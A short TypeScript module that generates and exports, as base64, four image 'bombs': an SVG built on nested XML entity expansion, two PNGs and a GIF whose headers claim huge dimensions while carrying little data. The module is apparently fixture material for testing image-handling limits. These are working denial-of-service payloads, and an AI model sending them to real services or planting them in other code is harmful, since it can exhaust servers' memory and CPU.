import { crc32, deflateSync } from 'node:zlib';

/** An SVG of half a kilobyte whose text of 96,000 letters takes the square of that to lay out. */
function svg(): Buffer {
  const times = (name: string) => `&${name};`.repeat(40);
  const entities = `<!ENTITY a "${'x'.repeat(60)}"><!ENTITY b "${times('a')}"><!ENTITY c "${times('b')}">`;
  const text = '<text y="20">&c;</text>';
  return Buffer.from(
    `<!DOCTYPE svg [${entities}]><svg xmlns="http://www.w3.org/2000/svg" width="500" height="500">${text}</svg>`,
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** A PNG of some kilobytes that says it is as many pixels as asked for, in black; its rows are there as far as `rows`. */
function png(side: number, rows: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(side / 8))), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const chunks = [chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...chunks]);
}

/** A GIF of 65,535 by 65,535 pixels in some bytes. */
function gif(): Buffer {
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0]);
  const colours = Buffer.from([0, 0, 0, 255, 255, 255]);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x4c, 1, 0, 0x3b]);
  return Buffer.concat([Buffer.from('GIF89a'), screen, colours, frame]);
}

/** Pictures that cost next to nothing to send. */
export const bombs: readonly string[] = [svg(), png(8_192, 8_192), png(60_000, 10), gif()].map((bytes) =>
  bytes.toString('base64'),
);
